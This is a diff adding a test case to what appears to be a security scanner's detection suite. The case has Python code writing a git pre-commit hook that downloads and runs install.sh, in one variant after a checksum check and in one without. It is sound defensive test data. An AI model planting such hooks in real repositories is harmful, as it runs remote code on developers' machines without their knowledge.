@@ -68,6 +68,16 @@ CASES = {
         "skillscope/persistence/startup",
         3,
     ),
+    # Python writing it there: the same reading, not the words
+    "hook-written-by-python": (
+        "scripts/hook.py",
+        'from pathlib import Path\n\nhook = Path(".git/hooks/pre-commit")\n'
+        f'hook.write_text("#!/bin/sh\\n{FETCH} && sha256sum install.sh | grep -q {DIGEST} && sh install.sh\\n")\n',
+        'from pathlib import Path\n\nhook = Path(".git/hooks/pre-commit")\n'
+        f'hook.write_text("#!/bin/sh\\n{FETCH} && sh install.sh\\n")\n',
+        "skillscope/persistence/startup",
+        4,
+    ),
     # JavaScript writing that checked download into the repository's pre-commit hook: the line is read by the shell
     # analyser, not by its words; the unchecked line stays a start-up write that fetches and runs code
     "hook-written-by-javascript": (
